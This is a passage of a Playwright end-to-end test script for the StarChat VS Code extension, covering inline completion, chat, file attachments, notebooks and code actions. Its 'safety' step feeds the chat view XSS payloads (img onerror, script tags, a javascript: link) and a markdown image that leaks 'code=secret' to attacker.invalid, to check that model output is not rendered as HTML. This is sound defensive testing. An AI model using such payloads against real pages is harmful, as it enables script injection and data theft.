      await moveTo(sc.fillAreaCursor.line, sc.fillAreaCursor.character);
      await trigger("asked for before Ctrl+Right", sc.fillArea);
      const wordAsked = sent().length;
      await page.keyboard.press("Control+ArrowRight");
      const word = await until("a word of it accepted", async () => {
        const ghost = await ghostText();
        const line = ghost.text.split("\n")[sc.fillAreaCursor.line];
        return ghost.shown && line.trim() !== "" && { ...ghost, line };
      }, 10000).catch(async (error) => {
        throw new Error(`${error.message}: ${JSON.stringify(await ghostText())}`);
      });
      await sleep(1000);
      const wordAfter = { ...(await ghostText()), cursor: await cursorStatus() };
      const wordAnswers = sent().length > wordAsked ? await answered(wordAsked, "the completion after Ctrl+Right") : [];
      const wordAccepted = await acceptWithTab("the rest accepted", word.text);
      const wordDisk = await savedText(areaFile);

      await sleep(1500); // anything the server would still send
      const quiet = await quietSeen();
      const log = stepLog();
      const statusNotifications = count(log, "Received notification 'starchat/status'");
      const progressCreated = count(log, "Received request 'window/workDoneProgress/create");
      const progressSent = count(log, "Received notification '$/progress'");

      // 3. starchat.completionEnabled false: asked, nothing proposed. (In the remote machine's
      // settings.json, which code-server watches; it does not see a change to the user's file.)
      const machineSettings = path.join(config.userData, "Machine", "settings.json");
      const savedMachine = fs.readFileSync(machineSettings, "utf8");
      let disabled;
      try {
        const pulls = count(clientLog(), "Received request 'workspace/configuration");
        fs.writeFileSync(machineSettings, JSON.stringify({ ...JSON.parse(savedMachine), "starchat.completionEnabled": false }, null, 2));
        await until("the server to pull the changed settings", async () => count(clientLog(), "Received request 'workspace/configuration") > pulls, 15000, 200);
        await sleep(500);
        await openPath(offFile, "def average");
        await moveTo(sc.fillSumCursor.line, sc.fillSumCursor.character - 1);
        await sleep(500);
        const before = sent().length;
        await page.keyboard.type("(");
        const typed = await answered(before, "the completion with completionEnabled false");
        await sleep(1500);
        const ghostAfterTyping = await ghostText();
        const explicitBefore = sent().length;
        await page.keyboard.press(config.triggerInlineKey);
        const invoked = await answered(explicitBefore, "the completion asked for with completionEnabled false");
        await sleep(1500);
        const ghostAfterTrigger = await ghostText();
        await screenshot("inline-disabled");
        disabled = { typed, invoked, ghostAfterTyping, ghostAfterTrigger };
      } finally {
        const pulls = count(clientLog(), "Received request 'workspace/configuration");
        fs.writeFileSync(machineSettings, savedMachine);
        await until("the server to pull the settings as they were", async () => count(clientLog(), "Received request 'workspace/configuration") > pulls, 15000, 200).catch(() => undefined);
      }
      await page.keyboard.press("Escape");
      const offDisk = await savedText(offFile);

      // 3b. StarChat: Toggle Inline Completion: off (in the user's settings; the status bar says
      // so and the server is told), asked for, nothing proposed; on again, proposed.
      const userSettings = path.join(config.userData, "User", "settings.json");
      // Off from the command palette; on from the status bar item's menu (its rows recorded).
      let menu;
      const toggle = async (what) => {
        const pulls = count(clientLog(), "Received request 'workspace/configuration");
        if (what === "off") await runCommand("StarChat: Toggle Inline Completion");
        else menu = await pickFromStatusMenu("Turn Inline Completion On");
        await until(`the server to pull the settings (${what})`, async () => count(clientLog(), "Received request 'workspace/configuration") > pulls, 15000, 200);
        await sleep(300);
        const user = JSON.parse(fs.readFileSync(userSettings, "utf8"))["starchat.completionEnabled"];
        // the item, not the message the toggle shows beside it for a moment
        const item = page.locator(".statusbar-item", { hasText: "StarChat", hasNotText: "inline completion" }).first();
        return { status: await item.innerText(), user: user ?? null };
      };
      const askToggled = async (what) => {
        await openPath(toggleFile, "def area");
        await moveTo(sc.fillAreaCursor.line, sc.fillAreaCursor.character);
        await sleep(500);
        if (what === "on") return trigger("asked for, toggled on", sc.fillArea);
        const before = sent().length;
        await page.keyboard.press(config.triggerInlineKey);
        const answer = await answered(before, "the completion asked for, toggled off");
        await sleep(1500); // a ghost text would show by now
        return { answer, ghost: await ghostText() };
      };
      fs.writeFileSync(toggleFile, sc.fillAreaText);
      const toggledOff = await toggle("off");
      const askedOff = await askToggled("off");
      await page.keyboard.press("Escape");
      const toggledOn = await toggle("on");
      const askedOn = await askToggled("on");
      await page.keyboard.press("Escape");
      const toggled = { off: { ...toggledOff, ...askedOff }, on: { ...toggledOn, ...askedOn }, menu };

      // 4. A notebook cell (vscode-notebook-cell: documents, synced with the notebook): "(" after
      // "sum" in a cell holding the same code, Tab.
      fs.writeFileSync(notebookFile, JSON.stringify({
        cells: [{ cell_type: "code", execution_count: null, id: "f1", metadata: {}, outputs: [], source: sc.fillSumTyped.split(/(?<=\n)/) }],
        metadata: { language_info: { name: "python" } },
        nbformat: 4,
        nbformat_minor: 5,
      }, null, 1));
      await page.locator(".explorer-folders-view .monaco-list-row", { hasText: "fill_cell.ipynb" }).first().click();
      const cell = page.locator(".notebook-editor .cell-editor-container .monaco-editor").first();
      const cellLine = cell.locator(".view-line", { hasText: "return sum" }).first();
      await cellLine.waitFor({ timeout: 30000 });
      await cellLine.click();
      await page.mouse.move(5, 5);
      await page.keyboard.press("End");
      await sleep(500);
      const cellBefore = sent().length;
      await page.keyboard.type("(");
      const cellGhost = await until("the ghost text in the cell", async () => {
        const ghost = await ghostText(cell);
        return ghost.shown && ghost;
      }, 60000, 100);
      const cellAnswer = await answered(cellBefore, "the completion in the cell");
      const cellUris = sent().slice(cellBefore).map((r) => r.params.textDocument.uri);
      await screenshot("inline-cell");
      await page.keyboard.press("Tab");
      const cellAccepted = await until("the proposal accepted in the cell", async () => {
        const ghost = await ghostText(cell);
        return !ghost.shown && ghost.text.includes(cellGhost.inline) && ghost.text;
      }, 10000);
      const cellDisk = JSON.parse(await savedText(notebookFile)).cells.map((c) => (Array.isArray(c.source) ? c.source.join("") : c.source));
      return {
        closed, typedAnswer, typedGhost, typedAccepted: typedAccepted.text, typedDisk, typedCursor,
        invokedAnswer, invokedGhost, invokedAccepted, invokedDisk, againAnswer, againGhost, dismissed: dismissed.text, dismissedShown: dismissed.shown, dismissedDisk,
        word: { first: word, after: wordAfter, answers: wordAnswers, accepted: wordAccepted, disk: wordDisk },
        quiet, statusNotifications, progressCreated, progressSent, disabled: { ...disabled, disk: offDisk }, toggled,
        cell: { uris: cellUris, answer: cellAnswer, ghost: cellGhost, accepted: cellAccepted, disk: cellDisk },
      };
    } catch (error) {
      await screenshot("inline-failed-editor").catch(() => {}); // before the files close
      throw error;
    } finally {
      await closeFiles();
    }
  }, { needs: ["open"] });

  await step("ask", async () => {
    await selectLines(4, 5);
    await contextMenuAction("def average", "Ask a Question", "menu-ask");
    const input = page.locator(".quick-input-widget input.input");
    await input.waitFor({ state: "visible" });
    await input.fill(sc.askQuestion);
    await screenshot("ask-question");
    const chatsBefore = requestParams(clientLog(), "starchat/chat").length;
    await page.keyboard.press("Enter");
    const frame = await chatPageFrame();
    const answer = await until("the answer in the chat view", () => answerDone(frame, 2), 60000);
    await sleep(200);
    await screenshot("ask-answer");
    if (answer.text !== sc.askAnswer) throw new Error(`answer ${JSON.stringify(answer.text)}`);
    const sent = requestParams(clientLog(), "starchat/chat").slice(chatsBefore);
    return { answer: answer.text, updates: answer.updates, turns: await chatTurns(), sent: sent.map(chatSent) };
  }, { needs: ["open"] });

  await step("explain", async () => {
    await selectLines(4, 5);
    await contextMenuAction("def average", "Explain");
    const chatsBefore = requestParams(clientLog(), "starchat/chat").length;
    const frame = await chatPageFrame();
    const answer = await until("the explanation in the chat view", () => answerDone(frame, 4), 60000);
    await sleep(200);
    await screenshot("explain");
    const sent = requestParams(clientLog(), "starchat/chat").slice(chatsBefore);
    const turns = await chatTurns();
    // ↻ Retry: Explain again, about the same lines, as the first message
    const retriesBefore = requestParams(clientLog(), "starchat/chat").length;
    await chatFrame().locator(".turn.assistant").last().locator("button.retry").click();
    const retried = await until("the explanation retried", async () => {
      const last = await answerDone(frame, 4);
      return last && last.id > answer.id && last;
    }, 60000);
    const retrySent = requestParams(clientLog(), "starchat/chat").slice(retriesBefore);
    return {
      answer: answer.text, updates: answer.updates, turns, sent: sent.map(chatSent),
      retried: retried.text, retrySent: retrySent.map(chatSent), retriedTurns: await chatTurns(),
    };
  }, { needs: ["ask"] });

  // The chat is about calc.py:4-5 (from Explain). The user closes calc.py and asks on: the
  // extension opens the file again for the server (never "The document is not open"). An
  // untitled document closed is gone: the context goes, with a note in the chat.
  await step("closed-context", async () => {
    const frame = await chatPageFrame();
    const contextState = () => frame.evaluate(() => ({ label: document.getElementById("context-label").textContent, hidden: document.getElementById("context").hidden }));
    const notifications = (method) => count(clientLog(), `Sending notification '${method}'`);
    /** Sends `text`; stops the answer once it has begun (its words do not matter here). */
    const askAndStop = async (text) => {
      const before = (await chatTurns()).length;
      await sendChat(frame, text);
      const begun = await until("the answer to begin", async () => {
        const list = await chatTurns();
        const last = list.at(-1);
        return list.length >= before + 2 && last.role === "assistant" && (last.status !== "streaming" || last.text.length > 0) && last;
      }, 60000, 50);
      // (it may have ended meanwhile: the button is gone)
      if (begun.status === "streaming") await chatFrame().locator("#stop").click({ timeout: 1000 }).catch(() => {});
      return until("the answer to end", async () => {
        const last = (await chatTurns()).at(-1);
        return last.status !== "streaming" && last;
      }, 20000, 50);
    };
    const before = await contextState();
    const [closes, opens] = [notifications("textDocument/didClose"), notifications("textDocument/didOpen")];
    await editor().locator(".view-lines").click();
    await page.keyboard.press("Control+W");
    await until("calc.py closed for the server", async () => notifications("textDocument/didClose") > closes, 15000, 200);
    const answer = await askAndStop(sc.chatFollowUp);
    const reopened = notifications("textDocument/didOpen") - opens;
    const after = await contextState();
    await screenshot("closed-file-context");

    // An empty untitled document (closed without a prompt) as the context, then closed.
    const untitledOpens = notifications("textDocument/didOpen");
    await runCommand("File: New Untitled Text File");
    await until("the untitled document opened for the server", async () => notifications("textDocument/didOpen") > untitledOpens, 15000, 200);
    await chatFrame().locator("#include-selection").check();
    const untitledAnswer = await askAndStop(sc.chatQuestion);
    await chatFrame().locator("#include-selection").uncheck();
    const untitled = await contextState();
    await page.locator(".tabs-container .tab", { hasText: "Untitled" }).first().click();
    await page.keyboard.press("Control+W");
    const notice = await until("the note that the context went", async () => (await chatTurns()).find((t) => t.role === "notice"), 15000, 100);
    const dropped = await contextState();
    await screenshot("context-dropped");

    // calc.py again, for the next steps.
    await openCalc();
    return { before, answer, reopened, after, untitledAnswer, untitled, notice: notice.text, dropped, turns: await chatTurns() };
  }, { needs: ["explain"] });

  await step("chat", async () => {
    await runCommand("StarChat: New Chat");
    const frame = await chatPageFrame();
    await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
    await watchAnswers(frame);
    await sendChat(frame, sc.chatQuestion);
    const first = await until("the chat answer", () => answerDone(frame, 2), 60000);
    const seen = await frame.evaluate(() => window.__seen);
    await sendChat(frame, sc.chatFollowUp);
    const second = await until("the follow-up answer", () => answerDone(frame, 4), 60000);
    const seenFollowUp = await frame.evaluate(() => window.__seen);
    await sleep(200);
    await screenshot("chat");
    const turns = await chatTurns();
    // ↻ Retry under the last answer: its message again, with the same history; the answer replaced
    const retryButtons = await frame.evaluate(() => document.querySelectorAll("button.retry").length);
    const chatsBefore = requestParams(clientLog(), "starchat/chat");
    await chatFrame().locator(".turn.assistant").last().locator("button.retry").click();
    const retried = await until("the answer retried", async () => {
      const last = await answerDone(frame, 4);
      return last && last.id > second.id && last;
    }, 60000);
    const retrySent = requestParams(clientLog(), "starchat/chat").slice(chatsBefore.length);
    return {
      answer: first.text, updates: first.updates, seen, followUp: second.text, followUpUpdates: second.updates, seenFollowUp, turns,
      retryButtons, retried: retried.text, retriedRoles: (await chatTurns()).map((t) => t.role),
      retrySent: retrySent.map((p) => p.messages), followUpSent: chatsBefore.at(-1).messages,
    };
  }, { needs: ["open"] });

  // Files attached to the chat (StarChat: Add File to Chat). area() selected in calc.py, the chat
  // about it (Include editor selection), shapes.py picked from the command's list: the model is
  // trained to answer "Who calls this?" that way only when its prompt shows shapes.py. The
  // chip's × removes it (the next message goes without it). The Explorer's menu offers the
  // command on shapes.py, not on the .env; New Chat clears what is attached.
  await step("attach", async () => {
    await runCommand("StarChat: New Chat");
    const frame = await chatPageFrame();
    await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
    await openCalc();
    await selectLines(8, 9);
    const chatsBefore = requestParams(clientLog(), "starchat/chat").length;
    // the command palette: a list of the files (several may be ticked), filtered, shapes.py ticked
    await runCommand("StarChat: Add File to Chat");
    const rows = page.locator(".quick-input-list .monaco-list-row");
    const row = rows.filter({ hasText: "shapes.py" }).first();
    await row.waitFor();
    await sleep(300);
    const listed = (await rows.evaluateAll((all) => all.map((r) => r.querySelector(".label-name")?.textContent?.trim() ?? ""))).filter(Boolean);
    await page.locator(".quick-input-widget input.input").fill("shapes");
    await sleep(300);
    const ticked = async () => (await row.getAttribute("aria-checked")) === "true";
    await row.click();
    if (!(await until("shapes.py ticked", ticked, 2000, 100).catch(() => false))) {
      await row.locator(".quick-input-list-checkbox").first().click(); // a click on its checkbox
      await until("shapes.py ticked", ticked, 5000, 100);
    }
    await screenshot("attach-pick");
    await page.keyboard.press("Enter");
    await page.locator(".quick-input-widget").waitFor({ state: "hidden", timeout: 5000 });
    const attached = await until("the chip of shapes.py", async () => {
      const chips = await referenceChips(frame);
      return chips.length > 0 && chips;
    }, 10000, 100);
    await chatFrame().locator("#include-selection").check();
    await sendChat(frame, sc.callersQuestion);
    const answer = await until("the answer with shapes.py attached", () => answerDone(frame, 2), 60000);
    await chatFrame().locator("#include-selection").uncheck();
    await sleep(200);
    await screenshot("attached-answer");
    const sent = requestParams(clientLog(), "starchat/chat").slice(chatsBefore);
    const about = await frame.evaluate(() => document.getElementById("context-label").textContent);
    // Ask a Question… on the selection takes the attached file too
    const asksBefore = requestParams(clientLog(), "starchat/chat").length;
    await selectLines(8, 9);
    await contextMenuAction("def area", "Ask a Question");
    const question = page.locator(".quick-input-widget input.input");
    await question.waitFor({ state: "visible" });
    await question.fill(sc.callersQuestion);
    await page.keyboard.press("Enter");
    const asked = await until("the answer to Ask a Question…", () => answerDone(frame, 4), 60000);
    const askSent = requestParams(clientLog(), "starchat/chat").slice(asksBefore).map((p) => p.references ?? null);

    // its × removes it; the next message goes without it
    await chatFrame().locator("#references .reference", { hasText: "shapes.py" }).locator("button.reference-remove").click();
    const removed = await until("the chip gone", async () => {
      const chips = await referenceChips(frame);
      return chips.length === 0 && chips;
    }, 10000, 100);
    const chipsShown = await frame.evaluate(() => !document.getElementById("references").hidden);
    const chatsBeforeAgain = requestParams(clientLog(), "starchat/chat").length;
    await sendChat(frame, sc.callersQuestion);
    const again = await until("the answer without shapes.py", () => answerDone(frame, 6), 60000);
    const sentAgain = requestParams(clientLog(), "starchat/chat").slice(chatsBeforeAgain);
    // the first answer's note names the files it saw; a click on one opens it
    await chatFrame().locator(".turn.assistant").first().locator("a.seen-file", { hasText: "shapes.py" }).click();
    await editor().locator(".view-line", { hasText: "def ring" }).waitFor({ timeout: 10000 });
    const opened = (await page.locator(".tabs-container .tab.active").first().innerText()).replace(/\s+/g, "");

    // the Explorer's right-click menu: on shapes.py (picked), not on the .env; New Chat clears it
    const menuOnSecret = await explorerMenu(".env");
    const menuOnFile = await explorerMenu("shapes.py", "Add File to Chat");
    const fromExplorer = await until("the chip from the Explorer", async () => {
      const chips = await referenceChips(frame);
      return chips.length > 0 && chips;
    }, 10000, 100);
    await screenshot("attached-from-explorer");
    await runCommand("StarChat: New Chat");
    await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
    const afterNewChat = await referenceChips(frame);
    await openCalc();
    return {
      listed, attached, answer: answer.text, answerStatus: answer.status, about, asked: asked.text, askSent,
      seen: [answer.seen, asked.seen, again.seen], opened,
      sent: sent.map((p) => ({ uri: p.textDocument?.uri?.replace(/^.*\//, "") ?? null, range: p.range ?? null, references: p.references ?? null })),
      removed, chipsShown, again: again.text, sentAgain: sentAgain.map((p) => ({ references: p.references ?? null, messages: p.messages.length })),
      menuOnSecret, menuOnFile, fromExplorer, afterNewChat,
    };
  }, { needs: ["open"] });

  await step("stop", async () => {
    // A long answer: maxNewTokens 1500, set in the Settings editor as a user would (the server
    // pulls the changed settings).
    await runCommand("Preferences: Open User Settings");
    const search = page.locator(".settings-editor .suggest-input-container").first();
    await search.waitFor();
    await search.click();
    await page.keyboard.type("starchat.maxNewTokens");
    const setting = page.locator(".settings-editor .setting-item-contents", { hasText: "Max New Tokens" }).first();
    const number = setting.locator("input").first();
    await number.waitFor();
    await number.fill("1500");
    await number.press("Tab");
    await sleep(1000);
    await screenshot("setting");
    await page.keyboard.press("Control+W");
    await sleep(config.settingsSettleMs ?? 1000);
    await runCommand("StarChat: New Chat");
    const frame = await chatPageFrame();
    await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
    await watchAnswers(frame);
    await sendChat(frame, sc.longQuestion);
    await until("the long answer to stream", async () => {
      const list = await chatTurns();
      const last = list[list.length - 1];
      return last?.role === "assistant" && last.status === "streaming" && last.text.length >= 60;
    }, 60000, 50);
    // A selection in the answer (its first "tick tock") outlives the pieces that follow: the
    // answer grows in place.
    const selection = await frame.evaluate(async () => {
      const content = [...document.querySelectorAll(".turn.assistant .content")].at(-1);
      const text = document.createTreeWalker(content, NodeFilter.SHOW_TEXT).nextNode();
      const range = document.createRange();
      range.setStart(text, 0);
      range.setEnd(text, 9);
      getSelection().removeAllRanges();
      getSelection().addRange(range);
      const before = content.textContent.length;
      await new Promise((resolve) => setTimeout(resolve, 150));
      return { selected: getSelection().toString(), grew: content.textContent.length - before };
    });
    // the screenshot and the click together: the whole answer can take well under a second
    await Promise.all([screenshot("streaming"), chatFrame().locator("#stop").click()]);
    const stopped = await until("the answer to stop", async () => {
      const list = await chatTurns();
      const last = list[list.length - 1];
      return last?.status !== "streaming" && last;
    }, 10000, 50);
    const lengthAtStop = stopped.text.length;
    await sleep(2000);
    const later = (await chatTurns()).at(-1);
    const stopVisible = await chatFrame().locator("#stop").isVisible();
    await screenshot("stopped");
    return { status: stopped.status, lengthAtStop, lengthLater: later.text.length, statusLater: later.status, stopButtonVisible: stopVisible, updates: later.updates, text: later.text.slice(0, 200), selection };
  }, { needs: ["open"] });

  // The light bulb (Ctrl+.): VS Code resolves the picked action (codeAction/resolve: the model
  // runs then) and applies its edit; a notification with Cancel shows while it runs, and Cancel
  // stops the model (maxNewTokens is still 1500: the Fix of the import line goes on).
  await step("lightbulb", async () => {
    const pick = async (first, last) => {
      await selectLines(first, last);
      const row = await codeActionRow("StarChat: Fix", () => selectLines(first, last));
      const offered = (await page.locator(".action-widget .monaco-list-row").allInnerTexts()).map((t) => t.trim()).filter(Boolean);
      await row.click();
      return offered;
    };
    // no light bulb where the cursor merely is; one over a selection
    const bulbs = () => page.locator(".lightBulbWidget:visible").count();
    await editor().locator(".view-line", { hasText: "def area" }).click();
    await sleep(1500);
    const bulbAtCursor = await bulbs();
    await selectLines(4, 5);
    const bulbOverSelection = await until("the light bulb over the selection", bulbs, 10000).catch(() => 0);
    const offered = await pick(4, 5);
    await until("the fixed code in the editor", async () => (await editorText()) === sc.fixedCalc, 60000);
    await screenshot("lightbulb-fixed");
    await editor().locator(".view-lines").click();
    await page.keyboard.press("Control+Z");
    await until("the original code again", async () => (await editorText()) === sc.calc, 10000);
    await page.keyboard.press("Control+S");

    const toasts = page.locator(".notification-toast", { hasText: "StarChat: Fix" });
    await until("the first Fix's notification gone", async () => (await toasts.count()) === 0, 10000);
    const stoppedBefore = count(clientLog(), '"message": "Stopped after');
    await pick(1, 1);
    const toast = toasts.first();
    // at once: the whole answer takes a few seconds on the test model
    await Promise.all([toast.locator(".monaco-button", { hasText: "Cancel" }).first().click({ timeout: 10000 }), screenshot("lightbulb-running")]);
    await toast.waitFor({ state: "hidden", timeout: 10000 });
    const stoppedAt = Date.now();
    await until("the server to report the generation stopped", async () => count(clientLog(), '"message": "Stopped after') > stoppedBefore, 10000, 100);
    const ready = await waitReady(10000);
    await sleep(1000);
    const errors = await page.locator(".notification-toast").allInnerTexts();
    const stoppedMessage = clientLog().match(/"message": "Stopped after (\d+) tokens?"/g)?.at(-1);
    return { bulbAtCursor, bulbOverSelection, offered, readyAfterMs: Date.now() - stoppedAt, ready, stoppedMessage, text: await editorText(), toasts: errors };
  }, { needs: ["open", "stop"] });

  // Model output is text, never HTML: an answer with tags, a script, a remote image and a
  // javascript: link, fed to the page as the extension would send it.
  await step("safety", async () => {
    const frame = await chatPageFrame();
    const csp = await frame.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? "");
    const answer = [
      'Look: <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> <b>bold?</b>',
      "",
      "![leak](https://attacker.invalid/leak.png?code=secret)",
      "",
      "[click me](javascript:window.__pwned=3)",
      "",
      "See calc.py and README.md, or https://example.invalid/docs.",
      "",
      "```python",
      'INSERTED = "</code></pre><img src=x onerror=window.__pwned=4>"',
      "```",
    ].join("\n");
    await feedPage(frame, [
      { id: 9001, role: "user", content: "<i>question</i>", status: "done", title: "<b>title</b>" },
      { id: 9002, role: "assistant", content: answer, status: "done" },
    ], "<u>ctx</u>");
    await sleep(300);
    const dom = await frame.evaluate(() => {
      const t = document.getElementById("transcript");
      return {
        pwned: window.__pwned ?? null,
        dangerous: t.querySelectorAll("img, script, iframe, object, embed, [onerror], [onload], b, i, u").length,
        jsLinks: t.querySelectorAll('a[href^="javascript:"]').length,
        imageLinks: [...t.querySelectorAll("a.image-link")].map((a) => a.getAttribute("href")),
        answerText: t.querySelector('.turn[data-id="9002"] .content')?.textContent ?? "",
        userText: t.querySelector('.turn[data-id="9001"]')?.textContent ?? "",
        context: document.getElementById("context-label").textContent,
        codeButtons: t.querySelectorAll('.turn[data-id="9002"] button.code-action').length,
        links: [...t.querySelectorAll('.turn[data-id="9002"] a:not(.image-link)')].map((a) => a.getAttribute("href")),
      };
    });
    await screenshot("safety");
    return { csp, ...dom };
  }, { needs: ["open"] });

  // "Insert at cursor" puts the code into the file last edited, even after the user looked at
  // the StarChat log (the Output panel is a text editor too, read-only).
  await step("insert-after-log", async () => {
    await editor().locator(".view-lines").click();
    await page.keyboard.press("Control+Home");
    await runCommand("StarChat: Show Log");
    const output = page.locator(".panel .monaco-editor .view-lines:visible").first();
    await output.waitFor();
    const box = await output.boundingBox();
    await page.mouse.click(box.x + 80, box.y + box.height - 10); // below the sticky scroll lines
    await sleep(300);
    await screenshot("log-focused");
    const language = await page.locator(".statusbar-item", { hasText: /^(Log|Python|Plain Text)$/ }).first().innerText().catch(() => "");
    await runCommand("StarChat: Open Chat");
    await chatFrame().locator('.turn[data-id="9002"] button.code-action[data-action="insert"]').click();
    const expected = 'INSERTED = "</code></pre><img src=x onerror=window.__pwned=4>"';
    let seen;
    await until("the code inserted into calc.py", async () => {
      seen = await editorText();
      return seen.startsWith(expected);
    }, 10000).catch((error) => {
      throw new Error(`${error.message}; the editor shows ${JSON.stringify(seen)}`);
    });
    const tab = await page.locator(".tabs-container .tab.active").first().innerText();
    await screenshot("inserted");
    await editor().locator(".view-lines").click();
    await page.keyboard.press("Control+Z");
    await until("calc.py as before", async () => (await editorText()) === sc.calc, 10000);
    return { tab, firstLine: seen.split("\n")[0], languageWhileInLog: language };
  }, { needs: ["safety"] });

  // Code blocks fitted to where they go: inserted with the cursor in a line's indentation, the
  // lines go above it, indented like it; a one-line block replacing part of a line stays in it.
  await step("insert-fitted", async () => {
    const frame = await chatPageFrame();
    const answer = ["```python", "def helper():", "    return 2", "```", "", "```python", "radius ** 2", "```", "", "```python", "def mean(values):", "```"].join("\n");
    await feedPage(frame, [
      { id: 9101, role: "user", content: "code?", status: "done" },
      { id: 9102, role: "assistant", content: answer, status: "done" },
    ]);
    const button = (index, action) => chatFrame().locator(`.turn[data-id="9102"] .code-block[data-code-index="${index}"] button[data-action="${action}"]`);
    const toLine9 = async () => {
      await editor().locator(".view-lines").click();
      await page.keyboard.press("Control+Home");
      for (let i = 1; i < 9; i++) await page.keyboard.press("ArrowDown");
    };
    const changed = async (what) => {
      let seen;
      // changed, and the same a moment later (not a frame of the editor's own re-rendering)
      await until(what, async () => (seen = await editorText()) !== sc.calc && (await sleep(200), await editorText()) === seen, 10000);
      const text = seen;
      await editor().locator(".view-lines").click();
      await page.keyboard.press("Control+Z");
      await until("calc.py as before", async () => (await editorText()) === sc.calc, 10000);
      return text;
    };
    await toLine9();
    await page.keyboard.press("End");
    await page.keyboard.press("Home"); // the first non-blank character: "    |return math.pi …"
    await button(0, "insert").click();
    const inserted = await changed("the block inserted");
    await toLine9();
    await page.keyboard.press("End");
    for (let i = 0; i < "radius * radius".length; i++) await page.keyboard.press("Shift+ArrowLeft");
    await button(1, "replace").click();
    const replaced = await changed("the selection replaced");
    await selectLines(4, 4); // a whole line, as Shift+Down selects it: to the start of the next
    await button(2, "replace").click();
    const replacedLine = await changed("the line replaced");
    return { inserted, replaced, replacedLine };
  }, { needs: ["insert-after-log"] });

  // Reload Webviews: the conversation comes back from the extension, the message being typed
  // from the page's state.
  await step("reload", async () => {
    await runCommand("StarChat: Open Chat");
    const input = chatFrame().locator("#input");
    await input.click();
    await input.fill("a draft I have not sent");
    await sleep(200);
    await runCommand("Developer: Reload Webviews");
    await sleep(500);
    cachedChatFrame = undefined;
    await runCommand("StarChat: Open Chat");
    const turns = await until("the conversation again", async () => {
      const list = await chatTurns();
      return list.length > 0 && list;
    }, 20000);
    const draft = await chatFrame().locator("#input").inputValue();
    await screenshot("reloaded");
    await chatFrame().locator("#input").fill("");
    return { turns, draft };
  }, { needs: ["stop"] });

  // A notebook: it goes to the server (notebook sync: each cell a document, prompts about one
  // show the others), a chat message includes the cell's selection (named by the notebook and
  // the cell), and Insert at cursor goes into the cell the user was in.
  await step("notebook", async () => {
    const frame = await chatPageFrame();
    // the notebook goes to the server whole (notebookDocument/didOpen: its cells in order)
    const cellOpens = () => clientLog().split("Sending notification 'notebookDocument/didOpen'").slice(1).filter((p) => /"uri": "vscode-notebook-cell:[^"]*analysis\.ipynb/.test(p.slice(0, 3000))).length;
    const opensBefore = cellOpens();
    await page.locator(".explorer-folders-view .monaco-list-row", { hasText: "analysis.ipynb" }).first().click();
    const cell = page.locator(".notebook-editor .cell-editor-container .monaco-editor").first();
    await cell.locator(".view-line", { hasText: "def scale" }).waitFor({ timeout: 30000 });
    await until("the cell sent to the server", async () => cellOpens() > opensBefore, 15000, 200);
    // the cell's second line selected, then a chat message with it (a new chat each time)
    const chatAboutTheLine = async () => {
      await cell.locator(".view-line", { hasText: "return" }).click();
      await page.keyboard.press("End");
      await page.keyboard.press("Shift+Home");
      await runCommand("StarChat: New Chat");
      await until("an empty chat", async () => (await chatTurns()).length === 0, 10000);
      await chatFrame().locator("#include-selection").check();
      const chatsBefore = requestParams(clientLog(), "starchat/chat").length;
      await sendChat(frame, sc.chatQuestion);
      await until("the chat answer", () => answerDone(frame, 2), 60000);
      await chatFrame().locator("#include-selection").uncheck();
      const promptTokens = await until("the chat's result in the log", async () => Number([...clientLog().matchAll(/"promptTokens": (\d+)/g)].at(-1)?.[1]), 10000, 200);
      return {
        label: await frame.evaluate(() => document.getElementById("context-label").textContent),
        sent: requestParams(clientLog(), "starchat/chat").slice(chatsBefore).map((p) => ({ uri: p.textDocument?.uri, range: p.range })),
        promptTokens,
      };
    };
    const { label, sent, promptTokens } = await chatAboutTheLine();
    // a code block into the cell: the cursor at the end of its last line
    await cell.locator(".view-line", { hasText: "return" }).click();
    await page.keyboard.press("End");
    await feedPage(frame, [
      { id: 9201, role: "user", content: "code?", status: "done" },
      { id: 9202, role: "assistant", content: ["```python", "print(scale([1, 2]))", "```"].join("\n"), status: "done" },
    ]);
    await chatFrame().locator('.turn[data-id="9202"] button.code-action[data-action="insert"]').click();
    const inserted = await until("the code in the cell", async () => {
      const text = await editorText(cell);
      return text.includes("print(scale") && text;
    }, 10000);
    // the cell's edit reached the server: the same question about the same line, one more line around it
    const afterInsert = await chatAboutTheLine();
    await cell.locator(".view-line", { hasText: "def scale" }).click();
    await page.keyboard.press("Control+S");
    const disk = await until("the notebook saved", async () => {
      const saved = fs.readFileSync(path.join(config.workspace, "analysis.ipynb"), "utf8");
      return saved.includes("print(scale") && JSON.parse(saved).cells.map((c) => c.source.join("")).join("\n---\n");
    }, 10000);
    await screenshot("notebook");
    await page.keyboard.press("Control+W");
    await openCalc();
    return { label, sent, inserted, disk, promptTokens, afterInsert };
  }, { needs: ["insert-fitted"] });

  // A project's own folder named User with a settings.json is the project's, not the editor's
  // settings: it is sent to the server like any other file (the test reads the verbose trace).
  await step("user-folder", async () => {
    await openPath(config.secrets.projectSettings, "project");
    const uri = new URL(`file://${config.secrets.projectSettings}`).href;
    const sent = await until("the project's User/settings.json sent to the server", async () => clientLog().includes(`"uri": "${uri}"`), 15000, 200).catch(() => false);
    await screenshot("project-user-settings");
    await editor().locator(".view-lines").click();
    await page.keyboard.press("Control+W");
    await openCalc();
    return { sent };
  }, { needs: ["open"] });

  // Fix from the menu on code the editor reports a problem in (VS Code's own JSON service): the
  // server is told what the editor shows there (runTask's diagnostics).
  await step("fix-with-problems", async () => {
    const file = path.join(config.workspace, "broken.json");
    fs.writeFileSync(file, '{\n  "name": "calc"\n  "version": 1\n}\n');
    await openPath(file, '"version"');
    await editor().locator(".squiggly-error").first().waitFor({ timeout: 30000 });
    await selectLines(2, 3);
    await contextMenuAction('"version"', "Fix", "menu-fix-problems");
    const call = await until("starchat.runTask with the editor's problems", async () =>
      requests(clientLog(), "workspace/executeCommand").filter(({ params: p }) => p.command === "starchat.runTask" && p.arguments?.[0]?.textDocument?.uri?.endsWith("broken.json")).at(-1), 15000, 200);
    const sent = call.params.arguments[0];
    // The answer (untrained for this prompt): its edit of broken.json, or a notice that it held
    // no code. Waited for, so that nothing of it arrives during the next steps.
